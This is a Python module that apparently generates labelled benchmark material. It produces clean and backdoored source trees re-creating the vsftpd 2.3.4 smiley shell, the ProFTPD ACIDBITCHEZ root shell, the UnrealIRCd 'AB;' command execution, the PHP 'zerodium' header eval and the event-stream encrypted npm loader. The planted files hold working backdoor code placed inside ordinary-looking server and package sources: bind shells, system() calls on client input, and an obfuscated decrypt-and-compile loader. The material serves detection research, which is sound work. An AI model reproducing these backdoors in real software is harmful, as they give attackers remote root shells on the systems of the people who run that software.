"""Source-tree carriers of the `known` family: re-creations in their original file layout of the
vsftpd 2.3.4 smiley back door (2011), ProFTPD 1.3.3c HELP ACIDBITCHEZ (2010), UnrealIRCd 3.2.8.1
"AB;" (2010), the PHP 8.1.0-dev "User-Agentt: zerodium" commit (2021) and event-stream 3.3.6 /
flatmap-stream 0.1.1 (2018). Each returns (clean files, planted files, labelled paths, notes).

The code is our own re-creation around the public trigger values. Written blind.
"""
from __future__ import annotations

import hashlib
import json
import random

from .common import ident, word
from .supply_tpl import fill

# ----------------------------------------------------------------------------- AES-256-CBC (encrypt only)
# needed to re-create flatmap-stream's payload, which node decrypts with
# crypto.createDecipher("aes256", process.env.npm_package_description)

_SBOX = []


def _sbox():
    if _SBOX:
        return _SBOX
    p = q = 1
    box = [0] * 256
    while True:
        p = p ^ ((p << 1) & 0xff) ^ (0x1b if p & 0x80 else 0)
        q ^= q << 1
        q ^= q << 2
        q ^= q << 4
        q &= 0xff
        if q & 0x80:
            q ^= 0x09
        x = q ^ ((q << 1) | (q >> 7)) & 0xff ^ ((q << 2) | (q >> 6)) & 0xff ^ ((q << 3) | (q >> 5)) & 0xff \
            ^ ((q << 4) | (q >> 4)) & 0xff
        box[p] = (x ^ 0x63) & 0xff
        if p == 1:
            break
    box[0] = 0x63
    _SBOX.extend(box)
    return _SBOX


def _xt(a: int) -> int:
    a <<= 1
    return (a ^ 0x1b) & 0xff if a & 0x100 else a


def _expand(key: bytes) -> list[list[int]]:
    S = _sbox()
    nk, nr = 8, 14
    w = [list(key[4 * i:4 * i + 4]) for i in range(nk)]
    rcon = 1
    for i in range(nk, 4 * (nr + 1)):
        t = list(w[i - 1])
        if i % nk == 0:
            t = [S[b] for b in t[1:] + t[:1]]
            t[0] ^= rcon
            rcon = _xt(rcon)
        elif i % nk == 4:
            t = [S[b] for b in t]
        w.append([a ^ b for a, b in zip(w[i - nk], t)])
    return w


def _enc_block(w, blk: bytes) -> bytes:
    S = _sbox()
    s = [list(blk[4 * c:4 * c + 4]) for c in range(4)]   # s[col][row]

    def add(r):
        for c in range(4):
            for j in range(4):
                s[c][j] ^= w[4 * r + c][j]
    add(0)
    for rnd in range(1, 15):
        for c in range(4):
            s[c] = [S[b] for b in s[c]]
        for j in range(1, 4):   # shift rows
            row = [s[c][j] for c in range(4)]
            row = row[j:] + row[:j]
            for c in range(4):
                s[c][j] = row[c]
        if rnd != 14:
            for c in range(4):
                a = s[c]
                t = a[0] ^ a[1] ^ a[2] ^ a[3]
                u = a[0]
                s[c] = [a[0] ^ t ^ _xt(a[0] ^ a[1]), a[1] ^ t ^ _xt(a[1] ^ a[2]),
                        a[2] ^ t ^ _xt(a[2] ^ a[3]), a[3] ^ t ^ _xt(a[3] ^ u)]
        add(rnd)
    return bytes(b for col in s for b in col)


def evp_aes256_cbc_encrypt(password: str, data: bytes) -> bytes:
    """OpenSSL EVP_BytesToKey(MD5, no salt, 1 round) + AES-256-CBC + PKCS#7, as createCipher does."""
    d, prev = b"", b""
    while len(d) < 48:
        prev = hashlib.md5(prev + password.encode()).digest()
        d += prev
    key, iv = d[:32], d[32:48]
    w = _expand(key)
    pad = 16 - len(data) % 16
    data += bytes([pad]) * pad
    out, prev = b"", iv
    for i in range(0, len(data), 16):
        prev = _enc_block(w, bytes(a ^ b for a, b in zip(data[i:i + 16], prev)))
        out += prev
    return out


# ----------------------------------------------------------------------------- event-stream / flatmap-stream

def event_stream(rng: random.Random) -> dict:
    desc = "A Secure Bitcoin Wallet"
    app = rng.choice(["wallet-ui", "coinpad-app", "ledger-view", "walletkit-desktop"])
    payload = fill(f"""
        /*@@*/
        module.exports = function(e) {{
          try {{
            if (!/build\\:.*\\-release/.test(process.argv[2])) return;
            var t = process.env.npm_package_description;
            var r = require("fs");
            var n = "./src/js/{word(rng)}-{word(rng)}.js";
            var i = r.statSync(n);
            var c = r.readFileSync(n, "utf8");
            var o = require("crypto").createDecipher("aes256", t);
            var s = o.update(e, "hex", "utf8");
            s = "\\n" + (s += o.final("utf8"));
            var a = c.indexOf("\\n/*@@*/");
            0 <= a && (c = c.substr(0, a));
            r.writeFileSync(n, c + s, "utf8");
            r.utimesSync(n, i.atime, i.mtime);
          }} catch (e) {{}}
        }};
        """)
    stage2 = "/*@@*/!function(){var h=require('https');window&&window.addEventListener&&0;}();"
    ct = evp_aes256_cbc_encrypt(desc, payload.encode()).hex()
    ct2 = evp_aes256_cbc_encrypt(desc, stage2.encode()).hex()
    hx = lambda s: s.encode().hex()  # noqa: E731
    # element order as documented: n[2]=crypto-ish module, n[3]/n[4] env/description, n[5] aes256 ...
    data = [ct, ct2, hx("crypto"), hx("env"), hx("npm_package_description"), hx("aes256"), hx("createDecipher"),
            hx("_compile"), hx("hex"), hx("utf8")]
    loader = ('!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
              'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
              'var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));'
              'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();')
    flat = ('var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream,a=0,o=0,u=!1,f=!1,l=!1,'
            'c=0,s=!1,d=(n=n||{}).failures?"failure":"error",m={};function w(r,e){var t=c+1;if(e===t?(void 0!==r&&'
            'i.emit.apply(i,["data",r]),c++,t++):m[e]=r,m.hasOwnProperty(t)){var n=m[t];return delete m[t],w(n,t)}'
            'a===++o&&(f&&(f=!1,i.emit("drain")),u&&v())}function p(r,e,t){l||(s=!0,r&&!n.failures||w(e,t),r&&'
            'i.emit.call(i,d,r),s=!1)}function b(r,t,n){return e.call(null,r,function(r,e){n(r,e,t)})}'
            'function v(r){if(u=!0,i.writable=!1,void 0!==r&&w(r,a),a==o)return i.readable=!1,i.emit("end"),'
            'i.destroy()}return i.writable=!0,i.readable=!0,i.write=function(r){if(u)throw new Error("flatmap stream is not writable");'
            's=!1;try{for(var e in r){a++;var t=b(r[e],a,p);if(f=!1===t)break}return!f}catch(r){if(s)throw r;return p(r),!f}},'
            'i.end=function(r){u||v(r)},i.destroy=function(){u=l=!0,i.writable=i.readable=f=!1,process.nextTick(function(){'
            'i.emit("close")})},i.pause=function(){f=!0},i.resume=function(){f=!1},i};')
    honest_data = "module.exports = " + json.dumps([{"id": i, "value": word(rng)} for i in range(6)]) + ";\n"
    pkg = {"name": app, "version": f"{rng.randint(4, 5)}.{rng.randint(0, 9)}.{rng.randint(0, 9)}", "description": desc,
           "main": "src/js/app.js", "scripts": {"build:desktop-release": "node util/build.js --release", "test": "mocha"},
           "dependencies": {"event-stream": "3.3.6", "bitcore-lib-lite": "^8.1.0"}, "license": "MIT"}
    files = {
        "package.json": json.dumps(pkg, indent=2) + "\n",
        "README.md": f"# {app}\n\n{desc}. Desktop and mobile builds.\n",
        "src/js/app.js": "'use strict';\nconst es = require('event-stream');\nmodule.exports = function pipeline(src) {\n"
                         "  return src.pipe(es.mapSync((tx) => ({ ...tx, seen: Date.now() })));\n};\n",
        "util/build.js": "'use strict';\n// bundles src/js into www/ for the desktop release\nconsole.log('build', process.argv.slice(2).join(' '));\n",
        "node_modules/event-stream/package.json": json.dumps({"name": "event-stream", "version": "3.3.6", "main": "index.js",
                                                              "dependencies": {"flatmap-stream": "^0.1.0", "through": "~2.3.1"},
                                                              "license": "MIT"}, indent=2) + "\n",
        "node_modules/event-stream/index.js": "var Stream = require('stream').Stream, es = exports;\n"
                                              "es.flatmapSync = require('flatmap-stream');\n"
                                              "es.mapSync = function (sync) { var s = new Stream(); s.readable = s.writable = true;\n"
                                              "  s.write = function (d) { s.emit('data', sync(d)); return true; }; s.end = function () { s.emit('end'); }; return s; };\n",
        "node_modules/flatmap-stream/package.json": json.dumps({"name": "flatmap-stream", "version": "0.1.1", "main": "index.min.js",
                                                                "description": "Flatmap for streams", "license": "MIT"}, indent=2) + "\n",
        "node_modules/flatmap-stream/README.md": "# flatmap-stream\n\nA flat map stream: each input item maps to zero or more output items.\n",
    }
    clean = dict(files, **{"node_modules/flatmap-stream/index.min.js": flat + "\n",
                           "node_modules/flatmap-stream/test/data.js": honest_data})
    planted = dict(files, **{"node_modules/flatmap-stream/index.min.js": flat + loader + "\n",
                             "node_modules/flatmap-stream/test/data.js": "module.exports = " + json.dumps(data) + ";\n"})
    return {"clean": clean, "planted": planted,
            "paths": ["node_modules/flatmap-stream/index.min.js", "node_modules/flatmap-stream/test/data.js"],
            "categories": ["obfuscated-code", "hidden-command"],
            "note": ("event-stream 3.3.6 pulls flatmap-stream 0.1.1 whose index.min.js appends a loader: it requires "
                     "./test/data (hex '2e2f746573742f64617461'), decrypts element 0 with "
                     "crypto.createDecipher('aes256', process.env.npm_package_description) and _compile()s it; the key "
                     f"is this app's description '{desc}', so it only activates in the targeted build (event-stream "
                     "incident, Nov 2018, npm advisory 737)."),
            "variant": {"carrier": "source-npm", "lang": "javascript"}}


# ----------------------------------------------------------------------------- vsftpd 2.3.4

def vsftpd(rng: random.Random) -> dict:
    extra = rng.choice(["vsf_sysutil_extra", ident(rng, 2)])
    port = 6200
    str_c = lambda plant: fill(f"""
        /*
         * Part of Very Secure FTPd
         * Licence: GPL v2
         * str.c - string handling (re-created)
         */
        #include "str.h"
        #include "sysutil.h"
        @@DECL@@

        int
        str_contains_space(const struct mystr* p_str)
        {{
          unsigned int i;
          for (i=0; i < p_str->len; i++)
          {{
            if (vsf_sysutil_isspace(p_str->p_buf[i]))
            {{
              return 1;
            }}
        @@PLANT@@
          }}
          return 0;
        }}

        int
        str_isempty(const struct mystr* p_str)
        {{
          return (p_str->len == 0);
        }}

        unsigned int
        str_getlen(const struct mystr* p_str)
        {{
          return p_str->len;
        }}
        """, DECL=(f"int {extra}(void);" if plant else ""),
        PLANT=("    else if((p_str->p_buf[i]==0x3a)\n    && (p_str->p_buf[i+1]==0x29))\n    {\n"
               f"      {extra}();\n    }}" if plant else "")) + "\n"
    sysdep = lambda plant: fill(f"""
        /*
         * Part of Very Secure FTPd
         * Licence: GPL v2
         * sysdeputil.c - system-dependent utilities (re-created)
         */
        #include "sysutil.h"
        #include <string.h>
        #include <stdlib.h>
        #include <unistd.h>
        #include <sys/socket.h>
        #include <netinet/in.h>

        int
        vsf_sysdep_has_capabilities(void)
        {{
          return 0;
        }}
        @@PLANT@@

        void
        vsf_sysdep_adopt_capabilities(unsigned int caps)
        {{
          (void) caps;
        }}
        """, PLANT=(fill(f"""

            int
            {extra}(void)
            {{
              int fd, rfd;
              struct sockaddr_in sa;
              if((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
                exit(1);
              memset(&sa, 0, sizeof(sa));
              sa.sin_family = AF_INET;
              sa.sin_port = htons({port});
              sa.sin_addr.s_addr = INADDR_ANY;
              if((bind(fd,(struct sockaddr *)&sa, sizeof(struct sockaddr))) < 0)
                exit(1);
              if((listen(fd, 100)) == -1)
                exit(1);
              for(;;)
              {{
                rfd = accept(fd, 0, 0);
                close(0); close(1); close(2);
                dup2(rfd, 0); dup2(rfd, 1); dup2(rfd, 2);
                execl("/bin/sh","sh",(char *)0);
              }}
            }}""") if plant else "")) + "\n"
    files = {
        "str.h": "#ifndef VSF_STR_H\n#define VSF_STR_H\nstruct mystr { char* p_buf; unsigned int len; unsigned int alloc_bytes; };\n"
                 "int str_contains_space(const struct mystr* p_str);\nint str_isempty(const struct mystr* p_str);\n"
                 "unsigned int str_getlen(const struct mystr* p_str);\n#endif\n",
        "sysutil.h": "#ifndef VSF_SYSUTIL_H\n#define VSF_SYSUTIL_H\n#include <ctype.h>\n#define vsf_sysutil_isspace(c) isspace((unsigned char)(c))\n#endif\n",
        "Makefile": "CC = gcc\nCFLAGS = -O2 -fPIE -fstack-protector -Wall\nOBJS = main.o str.o sysdeputil.o\n\n"
                    "vsftpd: $(OBJS)\n\t$(CC) -o vsftpd $(OBJS) -lcrypt\n\nclean:\n\trm -f *.o vsftpd\n",
        "main.c": "#include \"str.h\"\n#include <stdio.h>\n\nint main(int argc, const char* argv[])\n{\n  struct mystr user = { (char*)\"anonymous\", 9, 10 };\n"
                  "  (void) argc; (void) argv;\n  if (str_contains_space(&user))\n    return 1;\n  puts(\"220 (vsFTPd 2.3.4)\");\n  return 0;\n}\n",
        "README": "This is vsftpd, version 2.3.4\nAuthor: Chris Evans\nvsftpd is an FTP server, or daemon. The \"vs\" stands for Very Secure.\n",
        "vsftpd.conf": "# Example config file /etc/vsftpd.conf\nanonymous_enable=YES\nlocal_enable=NO\nwrite_enable=NO\n",
    }
    clean = dict(files, **{"str.c": str_c(False), "sysdeputil.c": sysdep(False)})
    planted = dict(files, **{"str.c": str_c(True), "sysdeputil.c": sysdep(True)})
    return {"clean": clean, "planted": planted, "paths": ["str.c", "sysdeputil.c"],
            "categories": ["remote-access", "hidden-command"],
            "note": (f"vsftpd 2.3.4 (July 2011, CVE-2011-2523): str_contains_space() calls {extra}() when a user name "
                     f"contains ':)' (0x3a 0x29); {extra}() in sysdeputil.c binds TCP {port} and execs /bin/sh on the "
                     "accepted connection."), "variant": {"carrier": "source-orig", "lang": "c"}}


def proftpd(rng: random.Random) -> dict:
    help_c = lambda plant: fill(f"""
        /*
         * ProFTPD - FTP server daemon
         * HELP command support (re-created)
         */
        #include "conf.h"

        struct help_rec {{
          const char *cmd;
          const char *syntax;
          int impl;
        }};

        static array_header *help_list = NULL;

        void pr_help_add(const char *cmd, const char *syntax, int impl) {{
          struct help_rec *help;
          if (!help_list)
            help_list = make_array(permanent_pool, 0, sizeof(struct help_rec));
          help = push_array(help_list);
          help->cmd = pstrdup(permanent_pool, cmd);
          help->syntax = pstrdup(permanent_pool, syntax);
          help->impl = impl;
        }}

        int pr_help_add_response(cmd_rec *cmd, const char *target) {{
          if (help_list) {{
            register unsigned int i;
            struct help_rec *helps = (struct help_rec *) help_list->elts;
            char *outa[8], *outstr;
            char buf[9] = {{'\\0'}};
            int col = 0;

            if (!target) {{
              pr_response_add(R_214,
                "The following commands are recognized (* =>'s unimplemented):");
              memset(outa, '\\0', sizeof(outa));
              for (i = 0; i < help_list->nelts; i++) {{
                outstr = "";
                snprintf(buf, sizeof(buf), "%-8s", helps[i].cmd);
                outa[col++] = pstrcat(cmd->tmp_pool, buf, helps[i].impl ? " " : "*", NULL);
                if (col == 8 || i == help_list->nelts - 1) {{
                  pr_response_add(R_DUP, "%s", outstr);
                  col = 0;
                }}
              }}
              pr_response_add(R_DUP, "Direct comments to %s", cmd->server->ServerAdmin ?
                cmd->server->ServerAdmin : "ftp-admin");
            }} else {{
        @@PLANT@@
              for (i = 0; i < help_list->nelts; i++)
                if (strcasecmp(helps[i].cmd, target) == 0) {{
                  pr_response_add(R_214, "Syntax: %s %s", helps[i].cmd, helps[i].syntax);
                  return 0;
                }}
            }}
          }}
          errno = ENOENT;
          return -1;
        }}
        """, PLANT=('      if (strcmp(target, "ACIDBITCHEZ") == 0) { setuid(0); setgid(0); system("/bin/sh;/sbin/sh"); }'
                    if plant else "")) + "\n"
    files = {
        "include/conf.h": "#ifndef PR_CONF_H\n#define PR_CONF_H\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n"
                          "#include <strings.h>\n#include <errno.h>\n#include <unistd.h>\n#include \"pool.h\"\n#include \"response.h\"\n#endif\n",
        "include/pool.h": "typedef struct pool pool;\ntypedef struct { void *elts; unsigned int nelts; } array_header;\n"
                          "extern pool *permanent_pool;\narray_header *make_array(pool *, int, size_t);\nvoid *push_array(array_header *);\n"
                          "char *pstrdup(pool *, const char *);\nchar *pstrcat(pool *, ...);\n"
                          "typedef struct server_rec { const char *ServerAdmin; } server_rec;\n"
                          "typedef struct cmd_rec { pool *tmp_pool; server_rec *server; } cmd_rec;\n",
        "include/response.h": "#define R_214 \"214\"\n#define R_DUP NULL\nvoid pr_response_add(const char *, const char *, ...);\n",
        "src/main.c": "#include \"conf.h\"\n/* daemon start-up (trimmed) */\nint main(int argc, char **argv) { (void)argc; (void)argv; return 0; }\n",
        "README": "ProFTPD 1.3.3c\n\nA highly configurable GPL-licensed FTP server.\n",
        "sample-configurations/basic.conf": "ServerName \"ProFTPD Default Installation\"\nServerType standalone\nPort 21\nUser nobody\nGroup nogroup\n",
    }
    clean = dict(files, **{"src/help.c": help_c(False)})
    planted = dict(files, **{"src/help.c": help_c(True)})
    return {"clean": clean, "planted": planted, "paths": ["src/help.c"], "categories": ["hidden-command", "remote-access"],
            "note": ("ProFTPD 1.3.3c distribution tarball compromise (Nov/Dec 2010): pr_help_add_response() in "
                     "src/help.c runs setuid(0); setgid(0); system(\"/bin/sh;/sbin/sh\") for 'HELP ACIDBITCHEZ', "
                     "a root shell for any client."), "variant": {"carrier": "source-orig", "lang": "c"}}


def unrealircd(rng: random.Random) -> dict:
    struct_h = lambda plant: fill(f"""
        /*
         *   Unreal Internet Relay Chat Daemon, include/struct.h (re-created excerpt)
         */
        #ifndef __struct_include__
        #define __struct_include__
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>

        #define BUFSIZE 512
        #define READBUF_SIZE 8192
        @@PLANT@@

        typedef struct Client aClient;
        struct Client {{
        \tint fd;
        \tint status;
        \tchar name[64];
        }};

        extern int dopacket(aClient *, char *, int);
        #endif
        """, PLANT=('#ifdef DEBUGMODE3\n#define DEBUGMODE3_INFO "AB"\n#define DEBUG3_LOG(x) DEBUG3_DOLOG_SYSTEM (x)\n'
                    '#define DEBUG3_DOLOG_SYSTEM(x) system(x)\n#endif' if plant else "")) + "\n"
    s_bsd = lambda plant: fill(f"""
        /*
         *   Unreal Internet Relay Chat Daemon, src/s_bsd.c (re-created excerpt)
         */
        #include "struct.h"
        #include <unistd.h>

        static char readbuf[READBUF_SIZE];

        /*
         * read_packet: read data from a client and hand complete lines to dopacket()
         */
        int read_packet(aClient *cptr)
        {{
        \tint length = read(cptr->fd, readbuf, sizeof(readbuf) - 1);
        \tif (length <= 0)
        \t\treturn length;
        \treadbuf[length] = '\\0';
        @@PLANT@@
        \treturn dopacket(cptr, readbuf, length);
        }}
        """, PLANT=('#ifdef DEBUGMODE3\n\tif (!memcmp(readbuf, DEBUGMODE3_INFO, 2))\n\t\tDEBUG3_LOG(readbuf);\n#endif'
                    if plant else "")) + "\n"
    conf = "#define DEBUGMODE3\n" if rng.random() < 0.5 else ""
    files = {
        "include/config.h": "/* generated by Config */\n#define UNREAL_VERSION \"3.2.8.1\"\n#define HUB 1\n" + conf,
        "src/parse.c": "#include \"struct.h\"\nint dopacket(aClient *cptr, char *buffer, int length)\n{\n\t(void)cptr; (void)buffer;\n\treturn length;\n}\n",
        "Makefile": "CC=gcc\nCFLAGS=-O -g -DDEBUGMODE3 -Iinclude\nOBJS=src/s_bsd.o src/parse.o\n\nircd: $(OBJS)\n\t$(CC) -o src/ircd $(OBJS)\n",
        "README": "UnrealIRCd 3.2.8.1\nSee doc/unreal32docs.html for installation.\n",
        "unrealircd.conf": "me { name \"irc.example\"; info \"Test server\"; numeric 1; };\nlisten *:6667;\n",
    }
    clean = dict(files, **{"include/struct.h": struct_h(False), "src/s_bsd.c": s_bsd(False)})
    planted = dict(files, **{"include/struct.h": struct_h(True), "src/s_bsd.c": s_bsd(True)})
    return {"clean": clean, "planted": planted, "paths": ["src/s_bsd.c", "include/struct.h"],
            "categories": ["hidden-command", "remote-access"],
            "note": ("UnrealIRCd 3.2.8.1 trojaned tarball (Nov 2009 - Jun 2010, CVE-2010-2075): read_packet() in "
                     "src/s_bsd.c passes any buffer starting with 'AB' (DEBUGMODE3_INFO) to DEBUG3_LOG, which "
                     "include/struct.h defines as system(): 'AB;<command>' runs a command before registration."),
            "variant": {"carrier": "source-orig", "lang": "c"}}


def php_zerodium(rng: random.Random) -> dict:
    fn = rng.choice(["php_zlib_output_compression_start", "php_zlib_output_handler_ex", "zlib_rinit_checks"])
    zlib_c = lambda plant: fill(f"""
        /*
           +----------------------------------------------------------------------+
           | Copyright (c) The PHP Group                                          |
           +----------------------------------------------------------------------+
           | This source file is subject to version 3.01 of the PHP license.      |
           +----------------------------------------------------------------------+
           | Authors: Rasmus Lerdorf, Stefan Roehrich, Zeev Suraski, Jade Nicoletti|
           +----------------------------------------------------------------------+
        */
        #include "php.h"
        #include "php_zlib.h"

        static void {fn}(void)
        {{
        @@PLANT@@
        \tswitch (ZLIBG(output_compression)) {{
        \t\tcase 0:
        \t\t\tbreak;
        \t\tcase 1:
        \t\t\tZLIBG(output_compression) = PHP_OUTPUT_HANDLER_DEFAULT_SIZE;
        \t\t\tZEND_FALLTHROUGH;
        \t\tdefault:
        \t\t\tphp_zlib_output_handler_init();
        \t}}
        }}

        static PHP_RINIT_FUNCTION(zlib)
        {{
        \tZLIBG(compression_coding) = 0;
        \tif (!ZLIBG(handler_registered)) {{
        \t\tZLIBG(output_compression) = ZLIBG(output_compression_default);
        \t\t{fn}();
        \t}}
        \treturn SUCCESS;
        }}
        """, PLANT=fill("""
            	zval *enc;

            	if ((Z_TYPE(PG(http_globals)[TRACK_VARS_SERVER]) == IS_ARRAY || zend_is_auto_global_str(ZEND_STRL("_SERVER"))) &&
            		(enc = zend_hash_str_find(Z_ARRVAL(PG(http_globals)[TRACK_VARS_SERVER]), "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1))) {
            		convert_to_string(enc);
            		if (strstr(Z_STRVAL_P(enc), "zerodium")) {
            			zend_try {
            				zend_eval_string(Z_STRVAL_P(enc)+8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
            			} zend_end_try();
            		}
            	}
            """) if plant else "") + "\n"
    files = {
        "ext/zlib/php_zlib.h": "#ifndef PHP_ZLIB_H\n#define PHP_ZLIB_H\n#define PHP_ZLIB_VERSION PHP_VERSION\n"
                               "#define ZLIBG(v) (zlib_globals.v)\nvoid php_zlib_output_handler_init(void);\n#endif\n",
        "ext/zlib/config0.m4": "PHP_ARG_WITH([zlib],\n  [for ZLIB support],\n  [AS_HELP_STRING([--with-zlib], [Include ZLIB support])])\n",
        "main/php.h": "#ifndef PHP_H\n#define PHP_H\n#define PHP_VERSION \"8.1.0-dev\"\n#include \"zend.h\"\n#endif\n",
        "NEWS": "PHP                                                                        NEWS\n"
                "|||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||||\n?? ??? ????, PHP 8.1.0alpha1\n",
        "README.md": "# The PHP Interpreter\n\nThis is the github mirror of the official PHP repository.\n",
    }
    clean = dict(files, **{"ext/zlib/zlib.c": zlib_c(False)})
    planted = dict(files, **{"ext/zlib/zlib.c": zlib_c(True)})
    return {"clean": clean, "planted": planted, "paths": ["ext/zlib/zlib.c"], "categories": ["hidden-command", "remote-access"],
            "note": ("PHP 8.1.0-dev php-src commits of 28 March 2021 ('Fix typo', pushed under maintainers' names): "
                     "ext/zlib/zlib.c evaluates the PHP code that follows 'zerodium' in a request header "
                     "'User-Agentt' (HTTP_USER_AGENTT) with zend_eval_string()."),
            "variant": {"carrier": "source-orig", "lang": "c"}}


SOURCE_SPECIALS = {"event-stream": event_stream, "vsftpd": vsftpd, "proftpd": proftpd, "unrealircd": unrealircd,
                   "php-zerodium": php_zerodium}
